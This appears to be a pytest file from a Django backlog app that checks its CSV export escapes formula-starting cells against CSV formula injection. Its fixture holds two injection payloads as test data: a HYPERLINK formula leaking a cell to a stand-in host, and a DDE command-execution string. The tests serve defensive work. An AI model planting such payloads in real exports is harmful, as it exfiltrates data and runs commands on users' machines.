"""CSV formula injection: no cell of an exported CSV starts a formula when a spreadsheet opens it.

The app writes one CSV, the backlog export (``backlog/exports.py``, at ``teams/<id>/backlog/export.csv``);
every text cell goes through ``backlog.jira.escape_cell``, which puts an apostrophe before a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's advice). The Jira import
reads that apostrophe away again. (The upload's size cap is tested in tests/backlog/test_imports.py:
``test_upload_refuses_a_bad_file_at_once`` and ``test_a_bad_upload_is_422_with_the_error_next_to_the_field``.)
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from backlog import jira
from backlog import services as backlog_services
from backlog import sprints as backlog_sprints
from objectives import services as objective_services
from okrapp.timeutil import org_today

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def formulas(cast, okrs):
    """A backlog whose every free-text cell starts like a formula."""
    today = org_today(cast.org)
    kr = objective_services.key_result_create(
        objective=okrs[2], title="+1 conversion", start_value=0, target_value=1, owner=cast.member, today=today
    )
    sprint = backlog_sprints.sprint_save(
        organisation=cast.org,
        team=cast.team,
        name="@sprint 12",
        start_date=today,
        end_date=today + timedelta(days=13),
    )
    epic = backlog_services.epic_save(organisation=cast.org, team=cast.team, title="-epic", context="=1+1")
    backlog_services.link_epic(epic=epic, key_result=kr, share=0.5)
    titles = [HYPERLINK, DDE, "+44 20 7946 0000", "-1", "@mention", "Plain title"]
    for title in titles:
        story = backlog_services.story_save(
            organisation=cast.org, team=cast.team, title=title, description="=SUM(1,2)", epic=epic, sprint=sprint
        )
        backlog_services.link_story(story=story, key_result=kr, share=0.1)
    return titles


def test_no_exported_cell_starts_a_formula(login, cast, formulas):
    response = login(cast.member).get(reverse("backlog_export", args=[cast.team.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 1 + len(formulas)  # the epic and its stories
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_START), (column, cell)
    by_summary = {row[header.index("Summary")]: dict(zip(header, row, strict=True)) for row in body}
    # Escaped, not altered: the apostrophe and then the text as written.
    assert "'" + HYPERLINK in by_summary and "'" + DDE in by_summary and "Plain title" in by_summary
    story = by_summary["'+44 20 7946 0000"]
    assert story["Description"] == "'=SUM(1,2)" and story["Sprint"] == "'@sprint 12"
    assert story["Parent"] == by_summary["'-epic"]["Issue key"] and story["Key results"] == "'+1 conversion"
    assert by_summary["'-epic"]["Description"] == "'=1+1"


@pytest.mark.parametrize("start", FORMULA_START)
def test_the_escape_covers_every_formula_start_and_reads_back(start):
    value = f"{start}1+1"
    assert jira.escape_cell(value) == f"'{value}"
    assert jira.unescape_cell(jira.escape_cell(value)) == value
    assert jira.escape_cell(f"a{start}1") == f"a{start}1"  # only the first character matters
